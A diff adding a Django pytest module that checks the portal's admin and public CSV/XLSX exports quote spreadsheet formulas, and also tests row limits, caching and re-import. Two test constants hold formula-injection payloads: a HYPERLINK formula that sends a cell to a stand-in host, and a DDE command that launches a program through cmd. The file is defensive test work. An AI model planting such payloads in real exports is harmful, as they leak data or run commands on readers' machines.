@@ -1,0 +1,222 @@
+"""Every export opens in a spreadsheet as text: an editor-typed formula never runs on the reader's machine."""
+
+import csv
+import datetime
+import io
+from http import HTTPStatus
+
+import openpyxl
+import pytest
+import tablib
+from django.contrib import admin
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from import_export.forms import SelectableFieldsExportForm
+
+from metrics import views as metrics_views
+from metrics.importing import usage_import
+from metrics.models import Metric, UsageStatistic
+from metrics.resources import MetricResource, UsageStatisticResource
+from metrics.tests.factories import MetricFactory, UsageStatisticFactory
+from omaolo_portal.spreadsheet import spreadsheet_safe
+from processes.models import ContentModule
+from processes.resources import ContentModuleResource
+from processes.tests.factories import ContentModuleFactory
+from regions.models import WellbeingCounty
+from regions.resources import WellbeingCountyResource
+from regions.tests.factories import WellbeingCountyFactory
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+DDE_COMMAND = "+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        (DDE_COMMAND, "'" + DDE_COMMAND),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Siun sote", "Siun sote"),
+        ("2024-W05", "2024-W05"),
+        ("14", "14"),
+        ("-5", "-5"),
+        ("", ""),
+        (162091, 162091),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe_quotes_formulae_and_keeps_plain_values(cell, expected):
+    assert spreadsheet_safe(cell) == expected
+
+
+def admin_export(client, model, resource_class, file_format="CSV"):
+    """POST the admin's export form for every field of the resource; the response is the file."""
+    model_admin = admin.site.get_model_admin(model)
+    format_names = [export_format.__name__ for export_format in model_admin.get_export_formats()]
+    fields = {
+        SelectableFieldsExportForm.create_boolean_field_name(resource_class, name): "on"
+        for name in resource_class().get_export_order()
+    }
+    opts = model._meta
+    return client.post(
+        reverse(f"admin:{opts.app_label}_{opts.model_name}_export"),
+        {"resource": "0", "format": str(format_names.index(file_format)), **fields},
+    )
+
+
+def csv_rows(response) -> list[dict[str, str]]:
+    assert response.status_code == HTTPStatus.OK
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_admin_county_export_quotes_an_editor_typed_formula(admin_client):
+    WellbeingCountyFactory(code="14", name_fi=HYPERLINK, brand=DDE_COMMAND, population=162091, population_year=2024)
+
+    [row] = csv_rows(admin_export(admin_client, WellbeingCounty, WellbeingCountyResource))
+
+    assert row["brand"] == "'" + DDE_COMMAND
+    assert row["name_fi"] == "'" + HYPERLINK
+    assert (row["code"], row["population"], row["population_year"]) == ("14", "162091", "2024")
+
+
+def test_admin_county_xlsx_export_quotes_an_editor_typed_formula(admin_client):
+    WellbeingCountyFactory(code="14", brand=DDE_COMMAND)
+
+    response = admin_export(admin_client, WellbeingCounty, WellbeingCountyResource, file_format="XLSX")
+
+    assert response.status_code == HTTPStatus.OK
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header, row = [[cell.value for cell in line] for line in sheet.iter_rows()]
+    assert dict(zip(header, row, strict=True))["brand"] == "'" + DDE_COMMAND
+
+
+def test_admin_content_export_quotes_an_editor_typed_formula(admin_client):
+    ContentModuleFactory(code="kurkkukipu", name_fi="Kurkkukipu", description_fi=HYPERLINK, name_en=DDE_COMMAND)
+
+    [row] = csv_rows(admin_export(admin_client, ContentModule, ContentModuleResource))
+
+    assert row["description_fi"] == "'" + HYPERLINK
+    assert row["name_en"] == "'" + DDE_COMMAND
+    assert (row["code"], row["name_fi"]) == ("kurkkukipu", "Kurkkukipu")
+
+
+def test_admin_metric_export_quotes_an_editor_typed_formula(admin_client):
+    MetricFactory(code="assessments_started", name_fi="@SUM(1+1)", description_fi=HYPERLINK)
+
+    [row] = csv_rows(admin_export(admin_client, Metric, MetricResource))
+
+    assert row["name_fi"] == "'@SUM(1+1)"
+    assert row["description_fi"] == "'" + HYPERLINK
+    assert row["code"] == "assessments_started"
+
+
+def test_admin_statistics_export_quotes_a_formula_and_keeps_codes_and_numbers(admin_client):
+    county = WellbeingCountyFactory(code="=1")
+    UsageStatisticFactory(
+        county=county, module=ContentModuleFactory(code="kurkkukipu"), metric=MetricFactory(code="started"), value=1234
+    )
+
+    [row] = csv_rows(admin_export(admin_client, UsageStatistic, UsageStatisticResource))
+
+    assert row == {
+        "county": "'=1",
+        "service_area": "",
+        "module": "kurkkukipu",
+        "metric": "started",
+        "period_type": "week",
+        "period": "2024-01-01",
+        "value": "1234",
+    }
+
+
+def test_public_statistics_export_quotes_a_formula_in_a_code(client):
+    county = WellbeingCountyFactory(code="=1")
+    UsageStatisticFactory(county=county, module=ContentModuleFactory(code="kurkkukipu"), metric=started_metric())
+
+    response = client.get(reverse("metrics:statistics_export"), {"period_type": "week"})
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1] == ["'=1", "", "kurkkukipu", "assessments_started", "week", "2024-W01", "10"]
+
+
+def test_an_exported_county_file_imports_back_unchanged(admin_client, demo_data):
+    response = admin_export(admin_client, WellbeingCounty, WellbeingCountyResource)
+
+    dataset = tablib.Dataset().load(response.content.decode("utf-8-sig"), format="csv")
+    result = WellbeingCountyResource().import_data(dataset, dry_run=True)
+
+    assert not result.has_errors()
+    assert result.totals["skip"] == WellbeingCounty.objects.count() == 22
+
+
+def test_an_exported_statistics_file_imports_back_unchanged(client, demo_data):
+    response = client.get(reverse("metrics:statistics_export"), {"period_type": "week"})
+    content = b"".join(response.streaming_content)
+
+    result = usage_import(file=SimpleUploadedFile("omaolo-usage.csv", content), user=None, dry_run=True)
+
+    assert result.error_count == 0
+    assert result.unchanged == result.rows_read > 0
+    assert (result.created, result.updated) == (0, 0)
+
+
+def started_metric():
+    return MetricFactory(code="assessments_started")
+
+
+def weekly_statistics(weeks: int, *, counties: int = 1):
+    metric, module = started_metric(), ContentModuleFactory()
+    UsageStatistic.objects.bulk_create(
+        UsageStatistic(
+            county=county,
+            module=module,
+            metric=metric,
+            period_type="week",
+            period_start=datetime.date(2024, 1, 1) + datetime.timedelta(weeks=week),
+            value=week,
+        )
+        for county in [WellbeingCountyFactory() for _ in range(counties)]
+        for week in range(weeks)
+    )
+
+
+def test_public_export_without_a_range_holds_the_weeks_the_page_shows(client):
+    weekly_statistics(40)
+
+    page = client.get(reverse("metrics:statistics"), {"period_type": "week"})
+    export = client.get(reverse("metrics:statistics_export"), {"period_type": "week"})
+
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    assert [row[5] for row in rows[1:]] == [total.label for total in page.context["totals"]]
+    assert len(rows) == 1 + metrics_views.DEFAULT_PERIODS["week"]
+
+
+def test_public_export_over_the_row_limit_asks_to_narrow_the_choices(
+    client, monkeypatch, django_assert_max_num_queries
+):
+    monkeypatch.setattr(metrics_views, "MAX_EXPORT_ROWS", 10)
+    weekly_statistics(8, counties=2)
+
+    with django_assert_max_num_queries(6):
+        response = client.get(reverse("metrics:statistics_export"), {"period_type": "week", "start": "2024-W01"})
+
+    assert response.status_code == HTTPStatus.BAD_REQUEST
+    assert response["Content-Type"] == "text/html; charset=utf-8"
+    assert response.context["form"].non_field_errors() == [str(metrics_views.EXPORT_TOO_LARGE).format(limit="10")]
+    assert str(metrics_views.EXPORT_TOO_LARGE).format(limit="10") in response.content.decode()
+
+
+def test_public_export_at_the_row_limit_is_downloaded_and_may_be_cached(client, monkeypatch):
+    monkeypatch.setattr(metrics_views, "MAX_EXPORT_ROWS", 16)
+    weekly_statistics(8, counties=2)
+
+    response = client.get(reverse("metrics:statistics_export"), {"period_type": "week", "start": "2024-W01"})
+
+    assert response.status_code == HTTPStatus.OK
+    assert len(b"".join(response.streaming_content).decode().splitlines()) == 1 + 16
+    assert response["Cache-Control"] == f"public, max-age={metrics_views.EXPORT_CACHE_SECONDS}"
